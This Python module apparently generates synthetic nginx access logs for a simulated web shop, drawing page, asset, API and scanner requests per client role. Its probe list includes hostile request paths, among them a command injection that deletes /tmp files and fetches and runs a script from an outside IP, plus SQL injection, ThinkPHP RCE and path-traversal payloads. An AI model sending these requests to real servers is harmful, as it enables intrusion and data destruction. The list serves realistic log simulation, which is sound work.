"""The simulated web shop: its pages, static assets, API and the probes scanners send.

`build_pools` pre-renders, per client role, a pool of request/response fragments
`] "GET /path HTTP/1.1" 200 1234 "referer" "` that the line renderer picks from. Paths,
methods, status codes, sizes and referrers are drawn together, so they correlate the
way they do on a real site. Text is already nginx-escaped (`"` as `\\x22`). The words
(product and blog slugs, search phrases, referring sites) are the run's Faker pools
(`words.py`); categories, search engines, social sites and probes are fixed.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from generator.words import Words

HOST = "https://www.shop.example"
POOL_SIZE = 8192

# fmt: off
_CATEGORIES = (
    "shoes", "clothing", "bags", "home", "kitchen", "audio", "furniture", "watches",
    "accessories", "outdoor", "office", "sale", "new-arrivals", "gifts",
)
# fmt: on
# Searches that carry escapes (a quoted phrase as nginx writes `"`, percent-encoded UTF-8),
# a quarter of all searches; the rest are the run's Faker phrases (`words.py`).
_SEARCH_ESCAPED = ("%E2%82%AC+20", "\\x22running+shoes\\x22", "caf%C3%A9")
_SEARCH_ESCAPED_SHARE = 0.25
_SEARCH_ENGINES = (
    ("https://www.google.com/", 70.0),
    ("https://www.bing.com/", 10.0),
    ("https://duckduckgo.com/", 6.0),
    ("https://search.yahoo.com/", 2.0),
    ("https://yandex.ru/", 2.0),
    ("https://www.google.de/", 4.0),
    ("https://www.google.co.uk/", 4.0),
    ("https://www.ecosia.org/", 2.0),
)
_SOCIAL = (
    "https://t.co/",
    "https://l.facebook.com/",
    "https://www.instagram.com/",
    "https://www.reddit.com/",
    "https://www.pinterest.com/",
    "android-app://com.google.android.gm/",
)
# The body sizes of nginx's built-in error pages.
_NGINX_ERROR_BYTES = {400: 157, 403: 153, 404: 153, 405: 157, 500: 177, 502: 157, 503: 197}
_PROBES = (
    "/wp-login.php",
    "/wp-admin/",
    "/xmlrpc.php",
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/.DS_Store",
    "/phpmyadmin/",
    "/pma/index.php",
    "/admin/",
    "/administrator/index.php",
    "/config.json",
    "/backup.zip",
    "/db.sql",
    "/server-status",
    "/actuator/env",
    "/actuator/health",
    "/solr/admin/info/system?wt=json",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale?form=country",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/wp-includes/wlwmanifest.xml",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array"
    "&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh;sh+x.sh",
    "/products?id=1\\x22%20OR%20\\x221\\x22=\\x221",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/_ignition/execute-solution",
    "/api/v1/pods",
    "/console/",
    "/login.action",
    "/geoserver/web/",
)

Fields = tuple[str, str, str, int, str, str]  # method, target, proto, status, bytes, referer


@dataclass(frozen=True)
class Site:
    """Paths with their popularity (cumulative weights) and fixed sizes."""

    pages: tuple[tuple[str, int], ...]  # (path, typical body size)
    page_cum: tuple[float, ...]  # Zipf popularity, as humans browse
    crawl_cum: tuple[float, ...]  # flatter popularity, as crawlers walk the site
    assets: tuple[tuple[str, int, str], ...]  # (path, size, referring path)
    asset_cum: tuple[float, ...]
    product_ids: tuple[int, ...]


def _cum(weights: Sequence[float]) -> tuple[float, ...]:
    return tuple(itertools.accumulate(weights))


def _pick(rng: random.Random, items: Sequence[str], weights: Sequence[float]) -> str:
    return rng.choices(items, weights=weights)[0]


def build_site(rng: random.Random, words: Words) -> Site:
    products = sorted(rng.sample(range(1000, 99999), 600))
    pages: list[tuple[str, int]] = [("/", 48_000)]
    for p in ("/about", "/contact", "/faq", "/shipping", "/returns", "/login", "/cart"):
        pages.append((p, int(rng.lognormvariate(10.0, 0.3))))
    pages += [(f"/category/{c}", int(rng.lognormvariate(10.8, 0.3))) for c in _CATEGORIES]
    for pid in products:
        slug = f"{rng.choice(words.modifiers)}-{rng.choice(words.nouns)}"
        pages.append((f"/products/{slug}-{pid}", int(rng.lognormvariate(10.5, 0.4))))
    for n in range(120):
        year = 2019 + n % 6
        pages.append(
            (f"/blog/{year}/{rng.choice(words.topics)}-{n}", int(rng.lognormvariate(10.3, 0.5)))
        )
    # Humans: the home page and categories first, then a long Zipf tail; crawlers: flatter.
    head = 1 + 7 + len(_CATEGORIES)
    tail = list(range(head, len(pages)))
    rng.shuffle(tail)
    order = [*range(head), *tail]
    page_w = [0.0] * len(pages)
    crawl_w = [0.0] * len(pages)
    for rank, idx in enumerate(order):
        page_w[idx] = 1.0 / (rank + 1) ** 1.05
        crawl_w[idx] = 1.0 / (rank + 1) ** 0.3

    assets: list[tuple[str, int, str]] = []
    build = f"{rng.getrandbits(32):08x}"
    assets.append((f"/static/css/main.{build}.css", int(rng.lognormvariate(11.0, 0.3)), "/"))
    assets.append((f"/static/js/app.{build}.js", int(rng.lognormvariate(12.0, 0.3)), "/"))
    assets.append((f"/static/js/vendor.{build}.js", int(rng.lognormvariate(13.2, 0.2)), "/"))
    for n in range(12):
        assets.append((f"/static/js/chunk-{n}.{build}.js", int(rng.lognormvariate(10.5, 1.0)), "/"))
    for name in ("logo", "cart", "search", "menu", "user", "heart", "star", "close"):
        assets.append((f"/static/img/icons/{name}.svg", int(rng.lognormvariate(7.3, 0.6)), "/"))
    for name in ("inter-var", "inter-var-italic"):
        css = f"/static/css/main.{build}.css"
        assets.append((f"/static/fonts/{name}.woff2", int(rng.lognormvariate(10.8, 0.2)), css))
    for n in range(10):
        assets.append((f"/static/img/hero-{n}.webp", int(rng.lognormvariate(12.0, 0.6)), "/"))
    first = 8 + len(_CATEGORIES)
    for pid, (path, _) in zip(products, pages[first : first + len(products)], strict=True):
        # Product photos: Pareto-tailed sizes, from thumbnails to huge originals.
        for w in (320, 1200):
            size = min(int(8_000 * (w / 320) * rng.paretovariate(1.3)), 12_000_000)
            ext = "jpg" if pid % 3 else "png"
            assets.append((f"/images/products/{pid}-{w}.{ext}", size, path))
    assets.append(("/favicon.ico", 15_086, "/"))
    assets.append(("/media/intro.mp4", 18_874_368, "/"))
    asset_w = [
        40.0 if "/static/" in a[0] else (2.0 if "mp4" in a[0] else 1.0 if "-1200." in a[0] else 3.0)
        for a in assets
    ]
    return Site(
        pages=tuple(pages),
        page_cum=_cum(page_w),
        crawl_cum=_cum(crawl_w),
        assets=tuple(assets),
        asset_cum=_cum(asset_w),
        product_ids=tuple(products),
    )


class _Draw:
    """One role's drawing rules over a Site."""

    def __init__(self, rng: random.Random, site: Site, words: Words) -> None:
        self.r = rng
        self.s = site
        self.w = words
        # Referring sites: a few send most of the visitors.
        self.site_cum = _cum([1.0 / (rank + 1) for rank in range(len(words.sites))])

    def query(self) -> str:
        """A search's q= value (URL-encoded, nginx-escaped)."""
        if self.r.random() < _SEARCH_ESCAPED_SHARE:
            return self.r.choice(_SEARCH_ESCAPED)
        return self.r.choice(self.w.searches)

    def page(self, crawl: bool = False) -> tuple[str, int]:
        cum = self.s.crawl_cum if crawl else self.s.page_cum
        return self.r.choices(self.s.pages, cum_weights=cum)[0]

    def page_referer(self) -> str:
        u = self.r.random()
        if u < 0.27:
            return _pick(self.r, [e for e, _ in _SEARCH_ENGINES], [w for _, w in _SEARCH_ENGINES])
        if u < 0.30:
            return self.r.choices(self.w.sites, cum_weights=self.site_cum)[0]
        if u < 0.72:
            return HOST + self.page()[0]
        if u < 0.93:
            return "-"
        return self.r.choice(_SOCIAL)

    def page_view(self, proto: str, crawl: bool = False) -> Fields:
        r = self.r
        path, size = self.page(crawl)
        if path.startswith("/category/") and r.random() < 0.3:
            path += f"?page={r.randint(2, 9)}&sort={r.choice(['price_asc', 'newest', 'popular'])}"
        method = "POST" if path in ("/login", "/contact") and r.random() < 0.3 else "GET"
        ref = "-" if crawl else self.page_referer()
        u = r.random()
        if method == "POST":
            status = 302 if u < 0.8 else 200
        elif u < 0.05 and not crawl:
            return method, path, proto, 304, "0", ref
        elif u < 0.07:
            return method, path + "/", proto, 301, "169", ref
        elif u < 0.10:
            # A stale product link.
            return method, f"/products/item-{r.randint(1, 999)}", proto, 404, str(5_120), ref
        elif u < 0.103:
            return method, path, proto, 499, "0", ref
        elif u < 0.107:
            status = r.choice((500, 502, 503, 504))
            return method, path, proto, status, str(_NGINX_ERROR_BYTES.get(status, 167)), ref
        else:
            status = 200
        return method, path, proto, status, str(int(size * r.uniform(0.95, 1.05))), ref

    def search(self, proto: str) -> Fields:
        q = self.query()
        size = int(self.r.lognormvariate(10.4, 0.4))
        return "GET", f"/search?q={q}", proto, 200, str(size), HOST + "/"

    def asset(self, proto: str) -> Fields:
        r = self.r
        path, size, ref_path = r.choices(self.s.assets, cum_weights=self.s.asset_cum)[0]
        ref = HOST + ref_path
        u = r.random()
        if path.endswith(".mp4"):
            return "GET", path, proto, 206, str(r.randint(65_536, 2_097_152)), ref
        if u < 0.25:
            return "GET", path, proto, 304, "-" if u < 0.012 else "0", ref
        if u < 0.26:
            return "GET", path.replace(".", "-old.", 1), proto, 404, "153", ref
        return "GET", path, proto, 200, str(size), ref

    def api(self, proto: str, ref: str) -> Fields:
        r = self.r
        pid = r.choice(self.s.product_ids)
        u = r.random()
        if u < 0.04:
            # CORS preflight.
            return "OPTIONS", f"/api/v1/products/{pid}", proto, 204, "0", ref
        if u < 0.06:
            return "HEAD", "/api/v1/products", proto, 200, "0", ref
        if u < 0.14:
            status = r.choices((201, 400, 422, 401), weights=(85, 6, 5, 4))[0]
            size = int(r.lognormvariate(6.2, 0.4)) if status == 201 else r.randint(40, 160)
            path = r.choice(("/api/v1/cart/items", "/api/v1/orders", "/api/v1/auth/login"))
            return "POST", path, proto, status, str(size), ref
        if u < 0.17:
            return "POST", "/api/v1/events", proto, 204, "0", ref
        if u < 0.21:
            status = r.choice((200, 200, 200, 409))
            return "PUT", f"/api/v1/cart/items/{pid}", proto, status, str(r.randint(60, 900)), ref
        if u < 0.24:
            status = 204 if r.random() < 0.9 else 404
            return (
                "DELETE",
                f"/api/v1/cart/items/{pid}",
                proto,
                status,
                "0" if status == 204 else "48",
                ref,
            )
        v = r.random()
        if v < 0.35:
            sort = r.choice(("price_asc", "price_desc", "newest", "popular"))
            limit = r.choice((12, 24, 48))
            path = f"/api/v1/products?page={r.randint(1, 20)}&limit={limit}&sort={sort}"
            size = int(r.lognormvariate(9.0, 0.6))
        elif v < 0.60:
            path, size = f"/api/v1/products/{pid}", int(r.lognormvariate(7.3, 0.5))
        elif v < 0.72:
            path = f"/api/v1/search?q={self.query()}&limit=10"
            size = int(r.lognormvariate(7.8, 1.0))
        elif v < 0.80:
            path = f"/api/v1/products/{pid}/reviews?page={r.randint(1, 5)}"
            size = int(r.lognormvariate(8.2, 1.2))
        elif v < 0.90:
            path = f"/api/v1/recommendations?product_id={pid}&limit=8"
            size = int(r.lognormvariate(8.0, 0.4))
        else:
            path, base = r.choice((("/api/v1/cart", 600), ("/api/v1/users/me", 420)))
            size = int(base * r.uniform(0.5, 3.0))
        w = r.random()
        if w < 0.02:
            return "GET", path, proto, 304, "0", ref
        if w < 0.05:
            return "GET", path, proto, 404, "48", ref
        if w < 0.065:
            return "GET", path, proto, 401, "41", ref
        if w < 0.075:
            return "GET", path, proto, 429, "57", ref
        if w < 0.082:
            return "GET", path, proto, r.choice((500, 502, 504)), str(r.randint(56, 180)), ref
        return "GET", path, proto, 200, str(size), ref

    def probe(self) -> Fields:
        r = self.r
        path = r.choice(_PROBES)
        method = "POST" if path in ("/xmlrpc.php", "/boaform/admin/formLogin") else "GET"
        proto = "HTTP/1.0" if r.random() < 0.2 else "HTTP/1.1"
        u = r.random()
        if u < 0.02:
            return "CONNECT", "www.example.org:443", proto, 400, "157", "-"
        if u < 0.05:
            return method, path, proto, 444, "0", "-"
        status = r.choices((404, 403, 400, 405, 301), weights=(85, 7, 3, 2, 3))[0]
        size = 169 if status == 301 else _NGINX_ERROR_BYTES[status]
        return method, path, proto, status, str(size), "-"


def _browser(d: _Draw) -> Fields:
    proto = "HTTP/2.0" if d.r.random() < 0.7 else "HTTP/1.1"
    u = d.r.random()
    if u < 0.45:
        return d.page_view(proto)
    if u < 0.47:
        return d.search(proto)
    if u < 0.86:
        return d.asset(proto)
    if u < 0.98:
        return d.api(proto, HOST + d.page()[0])
    return "GET", "/apple-touch-icon.png", proto, 404, "153", "-"


def _crawler(d: _Draw) -> Fields:
    proto = "HTTP/1.1" if d.r.random() < 0.8 else "HTTP/2.0"
    u = d.r.random()
    if u < 0.03:
        return "GET", "/robots.txt", proto, 200, "412", "-"
    if u < 0.05:
        return (
            "GET",
            d.r.choice(("/sitemap.xml", "/sitemap-products.xml")),
            proto,
            200,
            "48211",
            "-",
        )
    if u < 0.13:
        f = d.asset(proto)
        return "GET", f[1], proto, 200 if f[3] == 304 else f[3], f[4] if f[4] != "-" else "0", "-"
    if u < 0.14:
        return "HEAD", d.page(crawl=True)[0], proto, 200, "0", "-"
    return d.page_view(proto, crawl=True)


def _scraper(d: _Draw) -> Fields:
    u = d.r.random()
    if u < 0.6:
        return d.api("HTTP/1.1", "-")
    f = d.page_view("HTTP/1.1", crawl=True)
    if u < 0.64:
        return f[0], f[1], f[2], 429, "57", "-"
    return f


def _monitor(d: _Draw) -> Fields:
    u = d.r.random()
    if u < 0.55:
        return "GET", "/", "HTTP/1.1", 200, str(int(48_000 * d.r.uniform(0.97, 1.03))), "-"
    if u < 0.85:
        return "HEAD", "/", "HTTP/1.1", 200, "0", "-"
    status = 200 if d.r.random() < 0.995 else 503
    return "GET", "/healthz", "HTTP/1.1", status, "2" if status == 200 else "197", "-"


def _apiclient(d: _Draw) -> Fields:
    return d.api("HTTP/1.1", "-")


def _scanner(d: _Draw) -> Fields:
    if d.r.random() < 0.85:
        return d.probe()
    return d.page_view("HTTP/1.1", crawl=True)


_ROLES: dict[str, Callable[[_Draw], Fields]] = {
    "browser": _browser,
    "crawler": _crawler,
    "scraper": _scraper,
    "monitor": _monitor,
    "api": _apiclient,
    "scanner": _scanner,
}


def fragment(f: Fields) -> str:
    method, target, proto, status, size, ref = f
    return f'] "{method} {target} {proto}" {status} {size} "{ref}" "'


def build_pools(
    rng: random.Random, words: Words, size: int = POOL_SIZE
) -> dict[str, tuple[str, ...]]:
    """Per role, `size` rendered fragments drawn from the role's request mix; the text
    (slugs, searches, referring sites) comes from `words`, Faker's pools of the run."""
    site = build_site(rng, words)
    d = _Draw(rng, site, words)
    return {role: tuple(fragment(fn(d)) for _ in range(size)) for role, fn in _ROLES.items()}
